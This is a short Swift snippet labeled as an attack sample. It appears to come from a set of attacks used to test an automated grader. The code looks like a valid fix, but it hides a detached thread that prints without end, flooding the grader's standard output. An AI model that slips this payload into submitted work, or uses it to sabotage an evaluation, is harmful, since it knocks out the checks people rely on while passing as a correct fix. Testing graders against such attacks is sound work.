// ATTACK: stdout-flood
// A valid fix that also starts, at its first edit, a thread that prints without end: gigabytes of
// standard output for the grader to read, store or choke on. (Added to a solved exercise: see
// ../README.md.)
private let flood: Void = Thread.detachNewThread {
    let line = String(repeating: "flood ", count: 1_000)
    while true { print(line) }
}
// at the start of recalculate():
        _ = flood
